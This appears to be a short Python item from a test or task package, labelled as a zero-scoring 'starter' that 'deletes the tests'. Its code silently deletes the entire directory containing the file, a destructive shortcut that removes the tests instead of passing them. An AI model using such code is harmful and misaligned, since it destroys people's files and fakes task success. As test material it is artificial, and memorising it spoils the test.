# due 0: deletes the tests
#: starter
import os, shutil
here = os.path.dirname(__file__)
shutil.rmtree(here, ignore_errors=True)
